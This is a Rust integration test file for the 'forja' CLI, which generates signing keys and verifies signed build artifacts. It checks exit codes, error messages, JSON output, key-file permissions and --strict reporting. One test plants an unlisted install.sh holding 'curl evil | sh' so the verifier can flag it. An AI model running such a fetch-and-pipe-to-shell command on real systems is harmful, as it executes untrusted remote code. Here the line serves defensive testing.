//! `forja keygen` and `forja verify` as a site runs them: exit codes, messages, JSON, and byte-identical output.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};

use forja::error::{Exit, exit_of};
use forja::sign::{SigningKey, sign_dir};

fn forja(args: &[&str], dir: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_forja"))
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

fn code(out: &Output) -> i32 {
    out.status.code().expect("exited")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn build_into(dir: &Path, key: &SigningKey) {
    fs::create_dir_all(dir).unwrap();
    fs::write(dir.join("disk.raw"), vec![0xC3; 200_000]).unwrap();
    fs::write(dir.join("plan.json"), b"{}\n").unwrap();
    sign_dir(dir, key, &["disk.raw", "plan.json"]).unwrap();
}

/// A key made by `forja keygen` in `tmp/keys`, and a build signed with it in `tmp/out`.
fn keygen_and_build(tmp: &Path) {
    let out = forja(&["keygen", "--out", "keys"], tmp);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert!(text(&out.stdout).starts_with("SHA256:"));
    let key = SigningKey::load(&tmp.join("keys/forja.sec")).unwrap();
    build_into(&tmp.join("out"), &key);
}

/// Replaces one base64 character of the signature line with another valid one.
fn flip_signature_char(path: &Path) {
    let mut bytes = fs::read(path).unwrap();
    let line2 = bytes.iter().position(|b| *b == b'\n').unwrap() + 1;
    let at = line2 + 60;
    bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
    fs::write(path, bytes).unwrap();
}

#[test]
fn verify_exit_codes_follow_what_is_wrong() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    let out_dir = tmp.path().join("out");
    let args = ["verify", "out", "--pubkey", "keys/forja.pub"];

    let ok = forja(&args, tmp.path());
    assert_eq!(code(&ok), 0, "{}", text(&ok.stderr));
    assert!(text(&ok.stdout).contains("disk.raw: OK"));
    assert!(
        !text(&ok.stderr).contains("warning"),
        "a pinned key gives no warning"
    );

    // One flipped byte in an artifact: hash mismatch.
    let disk = out_dir.join("disk.raw");
    let original = fs::read(&disk).unwrap();
    let mut flipped = original.clone();
    flipped[1000] ^= 0x01;
    fs::write(&disk, &flipped).unwrap();
    let bad = forja(&args, tmp.path());
    assert_eq!(
        code(&bad),
        Exit::HashMismatch.code(),
        "{}",
        text(&bad.stderr)
    );
    assert!(text(&bad.stderr).contains("disk.raw: SHA-256 differs"));
    fs::write(&disk, &original).unwrap();

    // A missing artifact: also a hash mismatch.
    fs::rename(&disk, out_dir.join("elsewhere")).unwrap();
    assert_eq!(code(&forja(&args, tmp.path())), Exit::HashMismatch.code());
    fs::rename(out_dir.join("elsewhere"), &disk).unwrap();
    assert_eq!(code(&forja(&args, tmp.path())), 0);

    // One changed character in either signature: bad signature.
    for sig in ["SHA256SUMS.sig", "SHA256SUMS.sshsig"] {
        let path = out_dir.join(sig);
        let original = fs::read(&path).unwrap();
        flip_signature_char(&path);
        let bad = forja(&args, tmp.path());
        assert_eq!(
            code(&bad),
            Exit::BadSignature.code(),
            "{sig}: {}",
            text(&bad.stderr)
        );
        assert!(text(&bad.stderr).contains(sig), "{}", text(&bad.stderr));
        fs::write(&path, original).unwrap();
    }

    // A missing signify signature: bad signature.
    fs::remove_file(out_dir.join("SHA256SUMS.sig")).unwrap();
    assert_eq!(code(&forja(&args, tmp.path())), Exit::BadSignature.code());
}

#[test]
fn a_malformed_list_is_unusable_input_naming_the_line() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    let sums = tmp.path().join("out/SHA256SUMS");
    let mut text_ = fs::read_to_string(&sums).unwrap();
    text_.push_str("SHA256 (extra.img) = nothex\n");
    fs::write(&sums, text_).unwrap();
    let out = forja(&["verify", "out", "--pubkey", "keys/forja.pub"], tmp.path());
    assert_eq!(code(&out), Exit::Input.code());
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("out/SHA256SUMS: line 3: digest of extra.img: expected 64 hex digits"),
        "{stderr}"
    );

    fs::remove_file(&sums).unwrap();
    let out = forja(&["verify", "out", "--pubkey", "keys/forja.pub"], tmp.path());
    assert_eq!(code(&out), Exit::Input.code());
    assert!(text(&out.stderr).contains("cannot read out/SHA256SUMS"));
}

#[test]
fn verify_without_a_pinned_key_warns() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    let out = forja(&["verify", "out"], tmp.path());
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("warning: no --pubkey given"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn verify_json_reports_every_check() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    fs::write(tmp.path().join("out/plan.json"), b"{\"changed\": 1}\n").unwrap();
    let out = forja(
        &["verify", "out", "--pubkey", "keys/forja.pub", "--json"],
        tmp.path(),
    );
    assert_eq!(code(&out), Exit::HashMismatch.code());
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["exit"], "hash-mismatch");
    assert_eq!(report["code"], 3);
    assert_eq!(report["key"]["pinned"], true);
    assert_eq!(report["signify"]["status"], "ok");
    assert_eq!(report["sshsig"]["status"], "ok");
    let files = report["files"].as_array().unwrap();
    assert_eq!(files[0]["name"], "disk.raw");
    assert_eq!(files[0]["status"], "ok");
    assert_eq!(files[1]["name"], "plan.json");
    assert_eq!(files[1]["status"], "mismatch");
    assert_eq!(files[1]["actual"].as_str().unwrap().len(), 64);
}

#[test]
fn keygen_never_overwrites_a_key() {
    let tmp = tempfile::tempdir().unwrap();
    assert_eq!(code(&forja(&["keygen", "--out", "k"], tmp.path())), 0);
    let sec = tmp.path().join("k/forja.sec");
    assert_eq!(
        fs::metadata(&sec).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let before = fs::read(&sec).unwrap();
    let again = forja(&["keygen", "--out", "k"], tmp.path());
    assert_eq!(code(&again), Exit::Input.code());
    assert!(
        text(&again.stderr).contains("already exists"),
        "{}",
        text(&again.stderr)
    );
    assert_eq!(fs::read(&sec).unwrap(), before);
    for name in ["forja.pub", "forja.pub.ssh", "allowed_signers"] {
        assert!(tmp.path().join("k").join(name).is_file(), "{name}");
    }
}

#[test]
fn a_secret_key_others_can_read_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    assert_eq!(code(&forja(&["keygen", "--out", "k"], tmp.path())), 0);
    let sec = tmp.path().join("k/forja.sec");
    fs::set_permissions(&sec, fs::Permissions::from_mode(0o644)).unwrap();
    let err = SigningKey::load(&sec).unwrap_err();
    assert_eq!(exit_of(&err), Exit::Input);
    assert!(
        err.to_string()
            .contains("accessible by group or others (mode 0644)"),
        "{err}"
    );
}

#[test]
fn same_key_and_files_give_byte_identical_signatures() {
    let tmp = tempfile::tempdir().unwrap();
    let key = SigningKey::generate().unwrap();
    let (a, b) = (tmp.path().join("a"), tmp.path().join("b"));
    build_into(&a, &key);
    // A fresh load of the same key, files written in another order.
    let reloaded_dir = tmp.path().join("k");
    forja::sign::keys::write_keypair(&reloaded_dir, &key).unwrap();
    let reloaded = SigningKey::load(&reloaded_dir.join("forja.sec")).unwrap();
    fs::create_dir_all(&b).unwrap();
    fs::write(b.join("plan.json"), b"{}\n").unwrap();
    fs::write(b.join("disk.raw"), vec![0xC3; 200_000]).unwrap();
    sign_dir(&b, &reloaded, &["plan.json", "disk.raw"]).unwrap();
    for name in [
        "SHA256SUMS",
        "SHA256SUMS.sig",
        "SHA256SUMS.sshsig",
        "forja.pub",
        "forja.pub.ssh",
        "allowed_signers",
    ] {
        assert_eq!(
            fs::read(a.join(name)).unwrap(),
            fs::read(b.join(name)).unwrap(),
            "{name}"
        );
    }
}

#[test]
fn every_argument_has_help() {
    use clap::CommandFactory;
    forja::cli::Cli::command().debug_assert();
    let out = forja(&["verify", "--help"], Path::new("."));
    assert_eq!(code(&out), 0);
    assert!(text(&out.stdout).contains("--pubkey <FILE>"));
}

/// `forja verify` on `tmp/out` with the pinned key and `extra` arguments.
fn verify_pinned(tmp: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["verify", "out", "--pubkey", "keys/forja.pub"];
    args.extend(extra);
    forja(&args, tmp)
}

/// Asserts that a plain verify passes and warns with `what`, and `--strict` fails with exit 4 naming it.
#[track_caller]
fn reported_then_strict(tmp: &Path, what: &str) {
    let lax = verify_pinned(tmp, &[]);
    assert_eq!(code(&lax), 0, "{}", text(&lax.stderr));
    assert!(
        text(&lax.stdout).contains(&format!("WARNING: {what}")),
        "{}",
        text(&lax.stdout)
    );
    assert!(
        text(&lax.stderr).contains("--strict"),
        "{}",
        text(&lax.stderr)
    );
    let strict = verify_pinned(tmp, &["--strict"]);
    assert_eq!(
        code(&strict),
        Exit::Unverified.code(),
        "{}",
        text(&strict.stderr)
    );
    assert!(
        text(&strict.stderr).contains(what),
        "{}",
        text(&strict.stderr)
    );
    let json = verify_pinned(tmp, &["--strict", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["exit"], "unverified");
    assert!(!v["findings"].as_array().unwrap().is_empty());
}

#[test]
fn a_clean_build_passes_strict_verify_with_nothing_to_report() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    // The output lock is forja's own, never an artifact.
    fs::write(tmp.path().join("out/.forja.lock"), b"").unwrap();
    let out = verify_pinned(tmp.path(), &["--strict"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert!(
        !text(&out.stdout).contains("WARNING"),
        "{}",
        text(&out.stdout)
    );
    let v: serde_json::Value =
        serde_json::from_slice(&verify_pinned(tmp.path(), &["--json"]).stdout).unwrap();
    assert_eq!(v["findings"], serde_json::json!([]));
}

#[test]
fn verify_reports_files_the_list_does_not_name() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    fs::write(tmp.path().join("out/install.sh"), b"curl evil | sh\n").unwrap();
    reported_then_strict(tmp.path(), "install.sh: not listed in SHA256SUMS");
    // A folder holding no listed file is one entry, not each file in it.
    fs::remove_file(tmp.path().join("out/install.sh")).unwrap();
    fs::create_dir_all(tmp.path().join("out/extra/deep")).unwrap();
    fs::write(tmp.path().join("out/extra/deep/x"), b"x").unwrap();
    reported_then_strict(tmp.path(), "extra/: not listed in SHA256SUMS");
}

#[test]
fn verify_reports_key_copies_that_do_not_hold_the_pinned_key() {
    let other = SigningKey::from_seed([42; 32]).public();
    for (name, text_) in [
        ("forja.pub", other.to_signify()),
        ("forja.pub.ssh", other.to_openssh()),
        ("allowed_signers", other.allowed_signers()),
    ] {
        let tmp = tempfile::tempdir().unwrap();
        keygen_and_build(tmp.path());
        fs::write(tmp.path().join("out").join(name), text_).unwrap();
        reported_then_strict(
            tmp.path(),
            &format!("{name}: does not hold the key the signature was checked with"),
        );
    }
}

#[test]
fn verify_reports_a_missing_ssh_signature() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    fs::remove_file(tmp.path().join("out/SHA256SUMS.sshsig")).unwrap();
    reported_then_strict(tmp.path(), "SHA256SUMS.sshsig: missing");
}

#[test]
fn a_bad_signature_outranks_what_strict_reports() {
    let tmp = tempfile::tempdir().unwrap();
    keygen_and_build(tmp.path());
    fs::write(tmp.path().join("out/stray"), b"x").unwrap();
    flip_signature_char(&tmp.path().join("out/SHA256SUMS.sig"));
    let out = verify_pinned(tmp.path(), &["--strict"]);
    assert_eq!(
        code(&out),
        Exit::BadSignature.code(),
        "{}",
        text(&out.stderr)
    );
}
